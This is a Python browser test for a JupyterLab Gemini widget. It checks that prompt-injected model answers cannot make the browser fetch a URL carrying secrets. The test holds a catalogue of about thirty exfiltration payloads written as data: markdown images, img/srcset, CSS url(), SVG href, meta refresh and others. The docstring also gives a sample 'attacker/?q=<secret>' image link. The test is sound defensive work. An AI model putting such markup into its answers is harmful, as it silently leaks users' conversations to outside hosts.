"""Untrusted model output in real JupyterLab: nothing in an answer makes the browser fetch.

A prompt-injected answer can put the conversation into a URL (``![x](https://attacker/?q=
<secret>)``); an image, a stylesheet or an SVG reference the browser loads by itself sends it
without a click. Each vector below points at a local HTTP listener (127.0.0.1, a free port)
that counts every request it gets, and is streamed, split across chunks, through StreamView
(``stream``), ``Chat`` and ``%%gemini``. The listener must see nothing, and a remote image
must show as its placeholder: the alt text and the URL as a link (sanitize.js, blockedImage).

Positive controls at the end prove a 0 means something: a page-level ``fetch()`` and an
``<img>`` put into the page outside the sanitizer both reach the listener.
"""

# ruff: noqa: E501  (the vectors are data: one per line reads best)
from __future__ import annotations

import base64
import json
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import expect
from xss_payloads import CHUNK_GAP, SPLIT

pytestmark = pytest.mark.browser

SURFACES = ("stream", "chat", "magic")
DONE_MARK = "EXFIL-RUN-FINISHED"
# A 1x1 PNG: what the listener serves, and the inline image that must still render.
PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="
)
DATA_PNG = "data:image/png;base64," + base64.b64encode(PNG).decode()

# name -> template; {u} is a listener URL unique to the surface and the vector, {alt} the
# alt text a placeholder must show. Chunk boundaries (¦) fall inside tags and URLs.
VECTORS: dict[str, str] = {
    "markdown image": "![{alt}]({u}¦&q=SECRET)",
    "markdown image, reference": "![{alt}][r]\n\n[r]: {u}¦/ref",
    "img src": '<img src="{u}" ¦alt="{alt}">',
    "IMG upper case": '<IMG SRC="{u}" ALT="{alt}" width=20>',
    "image tag": '<ima¦ge src="{u}" alt="{alt}">',
    "img srcset": '<img srcset="{u}¦ 1x, {u}2 2x" src="{u}3" alt="{alt}">',
    "picture source": '<picture><source srcset="{u}"><img src="{u}¦i" alt="{alt}"></picture>',
    "badge in a link": "[![{alt}]({u})](https://example.org/ci)",
    "video poster": '<video poster="{u}" src="{u}v" autoplay muted></video>',
    "video source": '<video autoplay muted><source src="{u}"><track src="{u}t"></video>',
    "audio": '<audio src="{u}" autoplay></audio>',
    "link stylesheet": '<link rel="stylesheet" href="{u}">',
    "link preload": '<link rel="preload" as="image" href="{u}"><link rel="prefetch" href="{u}p">',
    "css url()": '<div style="background:url({u});width:20px;height:20px">css</div>',
    "css url() quoted": '<p style="background-image: url(&quot;{u}&quot;)">x</p>',
    "css escape": '<p style="background-image: u\\72l({u})">x</p>',
    "css image-set": "<p style=\"background-image: image-set('{u}' 1x)\">x</p>",
    "css list/cursor": '<ul style="list-style-image:url({u});cursor:url({u}c),auto"><li>x</li></ul>',
    "style element": "<style>.jp-Notebook {{ background: url({u}) }}</style>",
    "background attribute": '<table background="{u}"><tr><td background="{u}td">c</td></tr></table>',
    "input type=image": '<input type="image" src="{u}">',
    "iframe/object/embed": '<iframe src="{u}"></iframe><object data="{u}o"></object><embed src="{u}e">',
    "svg image href": '<svg width="20" height="20"><image href="{u}" width="20" height="20"/></svg>',
    "svg image xlink:href": '<svg width="20" height="20" xmlns:xlink="http://www.w3.org/1999/xlink">'
    '<image xlink:href="{u}" width="20" height="20"/></svg>',
    "svg use": '<svg width="20" height="20"><use href="{u}#a"/></svg>',
    "svg feImage": '<svg width="20" height="20"><filter id="f"><feImage href="{u}"/></filter>'
    '<rect filter="url(#f)" width="20" height="20"/></svg>',
    "svg fill url()": '<svg width="20" height="20"><rect fill="url({u}#p)" stroke="url({u}s#p)" '
    'width="20" height="20"/></svg>',
    "svg pattern/gradient href": '<svg width="20" height="20"><pattern id="p" href="{u}"/>'
    '<linearGradient id="g" href="{u}g"/><rect fill="url(#p)" width="9" height="9"/></svg>',
    "svg style": "<svg><style>rect {{ fill: url({u}) }}</style><rect width='9' height='9'/></svg>",
    "mathml mglyph": '<math><mglyph src="{u}" alt="g" width="9" height="9"/></math>',
    "katex includegraphics": "$\\includegraphics[height=1em]{{{u}}}$",
    "meta refresh": '<meta http-equiv="refresh" content="1;url={u}">',
}
# Vectors whose placeholder (alt text + link) must be visible.
PLACEHOLDERS = {
    "markdown image",
    "markdown image, reference",
    "img src",
    "IMG upper case",
    "image tag",
    "img srcset",
    "picture source",
    "badge in a link",
}

# ---- the listener ---------------------------------------------------------------------------


class Listener(ThreadingHTTPServer):
    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _Handler)
        self.requests: list[str] = []
        self.lock = threading.Lock()

    @property
    def base(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}"

    def seen(self) -> list[str]:
        with self.lock:
            return list(self.requests)


class _Handler(BaseHTTPRequestHandler):
    server: Listener

    def _answer(self) -> None:
        with self.server.lock:
            self.server.requests.append(f"{self.command} {self.path}")
        self.send_response(200)
        self.send_header("Content-Type", "image/png")
        self.send_header("Content-Length", str(len(PNG)))
        self.send_header("Access-Control-Allow-Origin", "*")
        self.send_header("Cache-Control", "no-store")
        self.end_headers()
        if self.command != "HEAD":
            self.wfile.write(PNG)

    do_GET = do_HEAD = do_POST = do_OPTIONS = _answer

    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.fixture
def listener() -> Iterator[Listener]:
    server = Listener()
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server
    server.shutdown()
    server.server_close()


# ---- the notebook ---------------------------------------------------------------------------


def _alt(surface: str, number: int) -> str:
    return f"leak {surface} {number}"


def _url(base: str, surface: str, number: int) -> str:
    return f"{base}/{surface}/{number}?q=SECRET"


def _answers(base: str) -> dict[str, list[str]]:
    """Prompt -> chunks, for every surface and vector."""
    answers = {}
    for surface in SURFACES:
        for number, (name, template) in enumerate(VECTORS.items()):
            text = template.format(u=_url(base, surface, number), alt=_alt(surface, number))
            parts = [part for part in text.split(SPLIT) if part]
            answers[f"exfil-{surface}-{number}"] = [
                f"Vector {number} ({name}):\n\n",
                *parts,
                f"\n\ninline ![dot {surface} {number}]({DATA_PNG}) and *after the vector*.\n",
            ]
    return answers


def _cells(base: str) -> list[str]:
    blob = base64.b64encode(json.dumps(_answers(base)).encode()).decode()
    count = len(VECTORS)
    setup = (
        "import base64, json\n"
        "from gemini_widgets.client import offline_server\n"
        "from gemini_widgets.offline import Pacing\n"
        f"ANSWERS = json.loads(base64.b64decode('{blob}').decode())\n"
        "server = offline_server()\n"
        f"server.state.pacing = Pacing(first_chunk=0.01, between=({CHUNK_GAP}, {CHUNK_GAP}))\n"
        "for prompt, chunks in ANSWERS.items():\n"
        "    server.script(*chunks, prompt=prompt)"
    )
    stream = (
        f"from gemini_widgets import stream\nfor i in range({count}):\n"
        "    _ = stream(f'exfil-stream-{i}')"
    )
    chat = (
        "from IPython.display import display\n"
        "from gemini_widgets import Chat\n"
        "chat = Chat()\n"
        "display(chat)\n"
        f"for i in range({count}):\n"
        "    _ = chat.send(f'exfil-chat-{i}')"
    )
    magic = (
        f"%load_ext gemini_widgets\nfor i in range({count}):\n"
        "    _ = get_ipython().run_cell_magic('gemini', '', f'exfil-magic-{i}')"
    )
    return [setup, stream, chat, magic, f"print('{DONE_MARK}')"]


# What each answer's body holds once rendered: placeholders, loaded <img>s, anything that
# still names the listener in a fetching attribute.
SCAN_JS = r"""(base) => {
    const bodies = {
        stream: [...document.querySelectorAll('.gw-stream')].slice(0, %(count)d),
        magic: [...document.querySelectorAll('.gw-stream')].slice(%(count)d),
        chat: [...document.querySelectorAll('.gw-chat .gw-message.gw-model')],
    };
    const out = {};
    for (const [surface, views] of Object.entries(bodies)) {
        out[surface] = views.map((view) => {
            const body = view.querySelector('.gw-body');
            const fetching = [];
            for (const el of body.querySelectorAll('*')) {
                for (const { name, value } of el.attributes) {
                    const isLink = el.localName === 'a' && /^(href|xlink:href)$/.test(name);
                    if (value.includes(base) && !isLink && name !== 'title')
                        fetching.push(`<${el.localName} ${name}=${value}>`);
                }
            }
            return {
                status: view.dataset.status ?? '',
                text: body.textContent,
                fetching,
                placeholders: [...body.querySelectorAll('.gw-blocked-image')].map((p) => ({
                    text: p.textContent,
                    links: [...p.querySelectorAll('a')].map((a) => [a.href, a.target, a.rel]),
                    title: p.title,
                    visible: p.getBoundingClientRect().width > 0,
                })),
                images: [...body.querySelectorAll('img')].map((img) => ({
                    src: img.src.slice(0, 30), loaded: img.complete && img.naturalWidth > 0,
                })),
            };
        });
    }
    return out;
}"""


def test_no_answer_makes_the_browser_fetch(lab, listener: Listener) -> None:
    started = time.monotonic()
    base = listener.base
    count = len(VECTORS)
    lab.write(*_cells(base)).open()
    lab.run_all(wait=False)
    lab.page.locator(".jp-OutputArea-output", has_text=DONE_MARK).wait_for(timeout=600_000)
    lab.wait_kernel_idle()
    lab.page.wait_for_timeout(2_000)  # late loads: lazy images, timers, a meta refresh (1 s)
    streamed = time.monotonic() - started

    scan = lab.page.evaluate(SCAN_JS % {"count": count}, base)
    problems = []
    for surface in SURFACES:
        views = scan[surface]
        if len(views) != count:
            problems.append(f"{surface}: {len(views)} answers for {count}")
            continue
        for number, (name, view) in enumerate(zip(VECTORS, views, strict=True)):
            where = f"{surface} {number} ({name})"
            if "after the vector" not in view["text"]:
                problems.append(f"{where}: not fully rendered (status {view['status']!r})")
            problems += [f"{where}: {f}" for f in view["fetching"]]
            # The inline data: PNG still renders, and loads.
            if view["images"] != [{"src": DATA_PNG[:30], "loaded": True}]:
                problems.append(f"{where}: images {view['images']}")
            if name in PLACEHOLDERS:
                alt, url = _alt(surface, number), _url(base, surface, number)
                shown = [p for p in view["placeholders"] if alt in p["text"]]
                if not shown or not all(p["visible"] for p in shown):
                    problems.append(f"{where}: no visible placeholder with {alt!r}")
                elif name == "badge in a link":
                    # Links do not nest: the URL is in the title, the outer link stays.
                    if shown[0]["links"] or url not in shown[0]["title"]:
                        problems.append(f"{where}: badge placeholder {shown[0]}")
                else:
                    link = shown[0]["links"][:1]
                    if not link or not link[0][0].startswith(url.split("?")[0]):
                        problems.append(f"{where}: placeholder link {shown[0]}")
                    elif link[0][1:] != ["_blank", "noopener noreferrer nofollow"]:
                        problems.append(f"{where}: placeholder link opens unsafely {link[0]}")
                    if "image from 127.0.0.1:" not in shown[0]["text"]:
                        problems.append(f"{where}: placeholder text {shown[0]['text']!r}")

    seen = listener.seen()
    lab.stream_view(0).scroll_into_view_if_needed()
    lab.screenshot("placeholders")
    badge = list(VECTORS).index("badge in a link")
    lab.screenshot("badge", locator=lab.stream_view(badge))
    reply = lab.page.locator(".gw-chat .gw-message.gw-model").first
    reply.scroll_into_view_if_needed()
    lab.screenshot("chat", locator=reply)
    # Positive controls: the listener is reachable from the page, by fetch() and by an
    # <img> that did not go through the sanitizer.
    lab.page.evaluate("(url) => fetch(url, { mode: 'no-cors' })", f"{base}/control/fetch")
    lab.page.evaluate(
        "(url) => { const img = document.createElement('img'); img.src = url;"
        " document.body.append(img); }",
        f"{base}/control/img",
    )
    deadline = time.monotonic() + 60  # they come at once; only a broken listener takes this
    while len(listener.seen()) < len(seen) + 2 and time.monotonic() < deadline:
        time.sleep(0.05)
    controls = sorted(listener.seen()[len(seen) :])

    print(
        f"\nExfiltration: {count} vectors x {len(SURFACES)} surfaces ({', '.join(SURFACES)}) = "
        f"{count * len(SURFACES)} streamed answers in {streamed:.1f} s; listener requests "
        f"during the run: {len(seen)}; positive controls: {controls}"
    )
    assert controls == ["GET /control/fetch", "GET /control/img"], controls
    assert seen == [], f"the browser fetched {len(seen)} URL(s) from model output: {seen}"
    assert not problems, "\n".join(problems)
    assert not lab.console.widget_errors(), lab.console.widget_errors()
    placeholder = lab.stream_view(0).locator(".gw-blocked-image")
    expect(placeholder).to_be_visible()
    expect(placeholder).to_contain_text(_alt("stream", 0))
    expect(placeholder.locator("a")).to_have_text(f"image from {base.split('//')[1]}")
